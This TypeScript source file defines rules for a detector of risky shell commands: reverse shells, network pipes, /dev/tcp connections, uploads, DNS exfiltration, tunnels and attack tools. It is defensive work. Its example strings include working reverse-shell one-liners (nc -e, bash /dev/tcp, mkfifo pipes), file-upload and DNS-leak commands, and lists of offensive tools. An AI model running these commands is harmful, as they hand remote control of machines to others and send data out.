import { inputOf } from '../bash/facts.ts'
import { shellNames } from '../bash/interpreters.ts'
import { type Call, origin } from '../model.ts'
import type { Rule } from '../rule.ts'
import { comesFrom, sketch, startOf, textOf } from '../values.ts'
import { line, namesShell, shell, words } from './shell-ask.ts'

const talkers =
  /^(nc|ncat|netcat|socat|telnet|openssl|socket|ssh|pwncat|rlwrap|cryptcat|sbd|dbclient|powercat|curl|zmodload)$/
const isShell = (call: Call): boolean => (shellNames as readonly string[]).includes(call.name)

export const shellNetworkRules: readonly Rule[] = [
  {
    id: 'shell/reverse-shell',
    languages: shell,
    type: 'network',
    severity: 'critical',
    cwe: 'CWE-506',
    description: 'Connects a shell to the network, so that somebody elsewhere controls this machine.',
    recommendation: 'Remove it.',
    implies: ['connect', 'run', 'privilege'],
    match: {
      on: 'call',
      names: words(`nc ncat netcat socat socket pwncat cryptcat sbd busybox script.connect rlwrap pwncat-cs ncat.openbsd
        nc.traditional nc.openbsd`),
      when: (call, { program }) => {
        const all = line(call)
        if (call.name === 'script.connect') {
          return (
            program.calls.some(
              other => other.start === call.start && (other.name === 'script.run' || isShell(other)),
            ) || /\/bin\/\w*sh\b/.test(program.source.slice(call.start, call.end))
          )
        }
        if (call.name === 'socat') return /(^|[ ,])(exec|system|shell)[:=]/i.test(all)
        if (call.name === 'busybox' || call.name === 'rlwrap') return /^(nc|ncat|netcat) .*-e/.test(all)
        return (
          /(^| )(-\w*e|--exec|--sh-exec|-c|-\w*lue) ?\S*(sh|cmd|python|perl)/.test(all) || namesShell(call.args.at(-1))
        )
      },
    },
    examples: {
      bad: [
        'nc -e /bin/sh 203.0.113.5 4444',
        'socat tcp-connect:host:9 exec:/bin/sh,pty',
        'ruby -rsocket -e \'c=TCPSocket.new("h",9);exec "/bin/sh"\'',
      ],
      good: ['nc -zv localhost 80'],
    },
  },
  {
    id: 'shell/network-pipe',
    languages: shell,
    type: 'network',
    severity: 'critical',
    cwe: 'CWE-506',
    description: 'Pipes a shell to or from a network connection.',
    recommendation: 'Remove it.',
    implies: ['connect', 'run', 'privilege'],
    match: {
      on: 'pipeline',
      when: ({ calls }) => {
        const net = calls.findIndex(
          call =>
            talkers.test(call.name) &&
            call.name !== 'curl' &&
            (call.name !== 'openssl' || /s_client|s_server/.test(line(call))),
        )
        return net !== -1 && calls.some((call, at) => at !== net && isShell(call) && !/(^| )-c/.test(line(call)))
      },
    },
    examples: {
      bad: [
        'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f',
        'telnet host 80 | /bin/sh | telnet host 25',
      ],
      good: ['printf hello | nc -w1 localhost 80'],
    },
  },
  {
    id: 'shell/network-device',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-506',
    description:
      'Opens a network connection through a device of the shell, where no firewall of the application sees it.',
    recommendation: 'Use a client that is made for it, with the host in plain sight.',
    implies: ['connect'],
    match: {
      on: 'redirection',
      when: ({ target, call }) => {
        if (!/^\/dev\/(tcp|udp)\//.test(startOf(target))) return false
        return call === null || isShell(call) || call.name === 'exec'
          ? { severity: 'critical', message: 'Connects a shell to the network.' }
          : true
      },
    },
    examples: {
      bad: ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'exec 5<>/dev/tcp/host/80', 'echo x > /dev/udp/host/53'],
      good: ['echo x > /dev/null'],
    },
  },
  {
    id: 'shell/network-device-text',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-506',
    description: 'A text names a network device of the shell.',
    recommendation: 'Remove it.',
    implies: ['connect'],
    match: { on: 'text', when: ({ text }) => /\/dev\/(tcp|udp)\/[\w.$-]+\/|\/inet\d?\/(tcp|udp)\//.test(text) },
    examples: { bad: ["echo 'bash -i >& /dev/tcp/h/9 0>&1' > job.sh"], good: ["echo '/dev/null'"] },
  },
  {
    id: 'shell/listen',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-923',
    description: 'Waits for connections from the network.',
    recommendation: 'A notebook does not need to listen.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: words(`nc ncat netcat socat python php ruby busybox httpd nginx sshd openssl telnetd in.telnetd darkhttpd
        http-server tftpd vsftpd smbd dropbear ttyd gotty shellinabox websocketd webfsd serve mini_httpd
        lighttpd kubectl socket restic`),
      when: call => {
        const all = line(call)
        switch (call.name) {
          case 'nc':
          case 'ncat':
          case 'netcat':
          case 'socket':
            return /(^| )(-\w*l|--listen|-s)/.test(all) && !/(^| )-\w*z/.test(all)
          case 'socat':
            return /-?listen/i.test(all) || /(tcp|udp|openssl|unix)\d?-l(isten)?:/i.test(all)
          case 'python':
            return /-m (http\.server|SimpleHTTPServer|pyftpdlib|twisted|smtpd|aiosmtpd|uploadserver|CGIHTTPServer)(?! (-h|--help))/.test(
              all,
            )
          case 'php':
            return /(^| )-S /.test(all)
          case 'ruby':
            return /-run|webrick|httpd/i.test(all)
          case 'busybox':
            return /^(httpd|nc .*-l|telnetd|ftpd)/.test(all)
          case 'openssl':
            return /^s_server/.test(all)
          case 'kubectl':
            return /^(proxy|port-forward)/.test(all)
          case 'restic':
            return /(^| )-r \S*rest:|backup/.test(all)
          default:
            return { severity: 'medium' }
        }
      },
    },
    examples: {
      bad: ['nc -lvp 4444', 'python3 -m http.server 8000', 'socat tcp-listen:80 -'],
      good: ['nc -z localhost 80', 'python3 -m venv env'],
    },
  },
  {
    id: 'shell/network',
    languages: shell,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-923',
    description: 'Reaches into the network.',
    recommendation: 'Grant the host, or put the data into the workspace.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: ({ call, target }) => {
        const name = call?.name ?? ''
        if (/^(ping|dig|host|nslookup|whois|traceroute)$/.test(name)) return { severity: 'low' }
        // Whether a port is open, and nothing said.
        if (call !== null && /^(nc|ncat|netcat)$/.test(name) && /^-\w*z/.test(line(call))) return { severity: 'low' }
        if (/^(pip3?|npm|pnpm|yarn|gem|cargo|go|apt|apt-get|yum|dnf|brew|conda|apk|snap|pacman)$/.test(name))
          return false
        const address = startOf(target)
        if (/^(https?:\/\/)?(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?)([:/]|$)/.test(address)) return { severity: 'low' }
        // A fetch from a named host, or from the remote that a repository has already, is how work begins.
        const plain = /^(curl|wget|aria2c|axel|http|https|xh|git|xdg-open|open|firefox|lynx|w3m)$/.test(name)
        const safe = address === '' || /^(https?:\/\/|git@)[\w-]+(\.[\w-]+)*\.[a-z]{2,}([/:?]|$)/i.test(address)
        return plain && safe ? { severity: 'low' } : true
      },
    },
    examples: {
      bad: ['curl -s http://203.0.113.4/a.csv -o a.csv', 'wget https://203.0.113.4/a', 'ssh user@host uptime'],
      good: [
        'curl -s http://localhost:8080/health',
        'curl -s https://example.org/a.csv -o a.csv',
        'git clone https://example.org/r.git',
        'git push origin main',
        'git status',
      ],
    },
  },
  {
    id: 'shell/upload',
    languages: shell,
    type: 'exfiltration',
    severity: 'high',
    cwe: 'CWE-200',
    description: 'Sends files or what commands print to another machine.',
    recommendation: 'Check what is sent and to whom.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: words(`curl wget nc ncat netcat ftp sftp tftp ncftpput lftp smbclient rclone aws gsutil az mail mailx
        sendmail mutt finger whois telnet socat openssl restic duplicity rlogin cancel lp hping3 http ssh gh
        mc s3cmd croc magic-wormhole transfer`),
      when: call => {
        const all = line(call)
        const fed = inputOf(call)
        const carries =
          fed !== undefined &&
          (comesFrom(fed, origin.file | origin.secret | origin.system | origin.environment) || fed.kind === 'unknown')
        switch (call.name) {
          case 'curl':
            return /(^| )(-T|--upload-file|-F ?\S*[@<]|--form \S*[@<]|-d ?@|--data(-binary|-ascii|-urlencode|-raw)?[ =]\S*@)/.test(
              all,
            )
          case 'wget':
            return /--(post|body)-(file|data)/.test(all)
          case 'nc':
          case 'ncat':
          case 'netcat':
          case 'telnet':
          case 'socket':
          case 'ssh':
            return carries && call.args.length > 0
          case 'socat':
          case 'openssl':
            return (call.name === 'socat' || /^s_client/.test(all)) && carries
          case 'tftp':
          case 'ftp':
          case 'sftp':
          case 'lftp':
          case 'smbclient':
            return /\bm?put\b/.test(`${all} ${sketch(fed) ?? ''}`)
          case 'finger':
          case 'whois':
          case 'rlogin':
          case 'cancel':
            return (
              call.args.some(arg => comesFrom(arg, origin.file | origin.secret | origin.system | origin.environment)) ||
              /(^| )(-h|-p) /.test(all)
            )
          case 'lp':
            return /(^| )-h/.test(all)
          case 'hping3':
            return /--file|-E /.test(all)
          case 'aws':
          case 'gsutil':
          case 's3cmd':
          case 'mc':
          case 'az':
            return /\b(cp|sync|mv|put-object|put|upload|rsync|mirror)\b/.test(all)
          case 'rclone':
            return /^(copy|sync|move|rcat)/.test(all)
          case 'gh':
            return /^(gist create|release upload)/.test(all)
          case 'http':
            return /@/.test(all)
          default:
            return true
        }
      },
    },
    examples: {
      bad: [
        'curl -F file=@ledger.xlsx https://example.org/up',
        'wget --post-file=a.txt https://example.org',
        'nc host 9 < a.txt',
        'tar c . | ssh host "cat > a.tar"',
      ],
      good: ['curl https://example.org', 'ssh -V'],
    },
  },
  {
    id: 'shell/name-lookup-leak',
    languages: shell,
    type: 'exfiltration',
    severity: 'high',
    cwe: 'CWE-200',
    description: 'Puts data into the name of a host that it looks up, which leaves through any firewall.',
    recommendation: 'Look up fixed names only.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: words('dig nslookup host ping getent curl wget traceroute drill'),
      when: call =>
        call.args.some(
          arg =>
            arg.kind === 'joined' &&
            comesFrom(arg, origin.file | origin.secret | origin.system | origin.decoded) &&
            (/^(dig|nslookup|host|ping|getent|drill|traceroute)$/.test(call.name) || /^https?:/.test(startOf(arg))),
        ),
    },
    examples: {
      bad: ['dig "$(whoami).x.example.org"', 'curl "https://example.org/?d=$(cat a.txt | base64)"'],
      good: ['dig example.org', 'ping -c1 "$host"'],
    },
  },
  {
    id: 'shell/tunnel',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-923',
    description: 'Opens a way into this network from outside.',
    recommendation: 'Ask the network team for access.',
    implies: ['connect', 'persistence'],
    match: {
      on: 'call',
      names: words(`ssh autossh ngrok chisel cloudflared frpc frps bore lt localtunnel openvpn wg-quick tailscale tor
        stunnel plink ligolo iodine dnscat dnscat2 ptunnel pagekite zerotier-cli tmate teamviewer x11vnc
        sshuttle gs-netcat proxychains proxychains4 torsocks torify`),
      when: call => (call.name === 'ssh' ? /(^| )-\w*[RDLw]( |\d|\*)/.test(line(call)) : true),
    },
    examples: { bad: ['ssh -R 8080:localhost:22 host', 'ngrok tcp 22'], good: ['ssh -V'] },
  },
  {
    id: 'shell/attack-tool',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-506',
    description: 'Starts a tool for scanning, listening in, guessing passwords or breaking in.',
    recommendation: 'Not on this machine.',
    implies: ['connect', 'privilege'],
    match: {
      on: 'call',
      names: words(`nmap masscan zmap tcpdump tshark wireshark dumpcap ettercap bettercap arpspoof dsniff ngrep hydra
        medusa ncrack john hashcat sqlmap nikto gobuster dirb wfuzz ffuf msfconsole msfvenom aircrack-ng
        airmon-ng responder crackmapexec impacket-secretsdump hping3 slowloris mitmproxy mitmdump linpeas.sh
        pspy mimikatz mimipenguin lazagne enum4linux wpscan nuclei amass subfinder theharvester empire
        sliver beef setoolkit netsniff-ng iftop arp-scan netdiscover fping ab siege hping t50 goldeneye loic
        volatility scapy macchanger iwconfig searchsploit exploitdb showmount rpcinfo nbtscan smbmap smbutil
        netexec kerbrute evil-winrm chisel ligolo-ng rustscan ifconfig ip`),
      when: call => {
        // A card that listens to what is meant for others.
        if (/^(ifconfig|ip)$/.test(call.name)) return /\bpromisc\b(?! off)/.test(line(call))
        return /^(ab|siege|fping|iftop|iwconfig|volatility|showmount|rpcinfo|smbutil)$/.test(call.name)
          ? { severity: 'medium' }
          : /^(--version|-V|--help|-h)$/.test(line(call))
            ? { severity: 'low' }
            : true
      },
    },
    examples: {
      bad: [
        'nmap -sS 192.0.2.0/24',
        'tcpdump -i eth0 -w out.pcap',
        'hydra -l root -P list ssh://host',
        'ip link set eth0 promisc on',
      ],
      good: ['map x', 'nmap --version', 'ip addr show'],
    },
  },
  {
    id: 'shell/attack-script',
    languages: shell,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-506',
    description: 'Runs a script that is known, or calls itself, a tool for breaking in.',
    recommendation: 'Not on this machine.',
    implies: ['run', 'privilege'],
    match: {
      on: 'call',
      names: [...shellNames, ...words('python pypy perl ruby node source . chmod')],
      when: call =>
        call.args.some(arg =>
          /(^|\/)(lazagne|linpeas|linenum|lse|autosuid|pspy\d*|mimipenguin|linux-exploit-suggester[\w-]*|unix-privesc-check|secretsdump|responder|crackmapexec|keylogger|rootkit|ransomware|backdoor|stealer|reverse_?shell|exploit)(\.\w+)?$/i.test(
            textOf(arg) ?? '',
          ),
        ),
    },
    examples: { bad: ['python3 laZagne.py all', 'bash ./LinEnum.sh'], good: ['python3 report.py', 'bash build.sh'] },
  },
  {
    id: 'shell/sweep',
    languages: shell,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-200',
    description: 'Asks one address after the other who is there.',
    recommendation: 'Name the hosts that are needed.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: words('ping ping6 nc ncat netcat curl host dig nslookup arping telnet'),
      when: call =>
        call.inLoop && call.args.some(arg => arg.kind === 'joined' && /^(\d{1,3}\.){1,3}$/.test(startOf(arg))),
    },
    examples: {
      bad: ['for i in $(seq 1 254); do ping -c1 192.168.1.$i; done'],
      good: ['for h in a b; do ping -c1 "$h"; done', 'ping -c1 192.168.1.1'],
    },
  },
  {
    id: 'shell/looks-for-guards',
    languages: shell,
    type: 'system-access',
    severity: 'medium',
    cwe: 'CWE-200',
    description: 'Looks whether software that protects this machine is running.',
    recommendation: 'Take it out; a calculation does not need to know.',
    implies: ['read'],
    match: {
      on: 'call',
      names: words('grep egrep pgrep pidof awk systemctl'),
      when: call =>
        /falcon(d|-sensor|ctl)|crowdstrike|CbOsxSensor|carbonblack|cbagentd|littlesnitch|sentinelone|sentinelctl|cylance|osqueryd|mdatp|wdavdaemon|wazuh|ossec|auditbeat|elastic-endpoint|sysmon|clamd|esets|falco\b/i.test(
          line(call),
        ),
    },
    examples: { bad: ['ps aux | grep -i falcond', 'pgrep osqueryd'], good: ['ps aux | grep python'] },
  },
  {
    id: 'shell/mail',
    languages: shell,
    type: 'exfiltration',
    severity: 'medium',
    cwe: 'CWE-201',
    description: 'Sends mail or messages.',
    recommendation: 'Let a person send it.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: words(`mail mailx sendmail mutt swaks msmtp ssmtp sendemail wall write mpack exim postfix sendxmpp
        notify-send telegram-send`),
      when: call => (call.name === 'notify-send' ? { severity: 'low' } : true),
    },
    examples: { bad: ['mail -s hi a@example.org < body.txt'], good: ['echo mail'] },
  },
  {
    id: 'shell/addresses',
    languages: shell,
    type: 'system-access',
    severity: 'medium',
    cwe: 'CWE-923',
    description: 'Changes how this machine is connected.',
    recommendation: 'Leave the network as it is.',
    implies: ['privilege'],
    match: {
      on: 'call',
      names: words(`ip ifconfig route arp nmcli iw dhclient resolvectl brctl tc ethtool netplan hostname bridge
        systemd-resolve`),
      when: call => {
        const all = line(call)
        if (call.name === 'hostname')
          return call.args.length > 0 && !/^-/.test(all) && !/\u{fffc}/u.test(all) ? { severity: 'medium' } : false
        return (
          /(^| )(add|del|delete|set|flush|replace|change|down|up|netns|-s|-d|connect|modify|qdisc add|-batch|-force|-b) ?/.test(
            all,
          ) && !/(^| )(show|list|-s link|-s -h)/.test(all)
        )
      },
    },
    examples: {
      bad: ['ip route add default via 10.0.0.9', 'ifconfig eth0 down', 'ip netns add x'],
      good: ['ip addr show', 'ip a', 'hostname', 'hostname -f'],
    },
  },
]
